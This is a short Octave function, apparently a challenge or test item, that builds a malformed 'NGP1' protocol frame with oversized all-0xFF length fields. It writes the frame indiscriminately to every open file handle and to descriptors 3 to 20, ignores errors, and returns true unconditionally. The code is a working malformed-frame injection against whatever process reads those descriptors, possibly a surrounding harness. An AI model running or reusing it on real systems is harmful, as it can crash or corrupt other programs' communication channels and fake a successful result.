% Write frames by hand that claim more than they hold.
%
% Outcome: Z. Reply: protocol

function got = answer (target)
  got = true;
  most = uint8 (255) * ones (1, 8, "uint8");
  body = [uint8("Af"), uint8([8, 2]), most, most];
  frame = [uint8("NGP1"), typecast(uint64 (numel (body)), "uint8"), body];
  for file = [fopen("all")(:).', 3:20]
    try
      fwrite (file, frame);
      fflush (file);
    end_try_catch
  endfor
endfunction
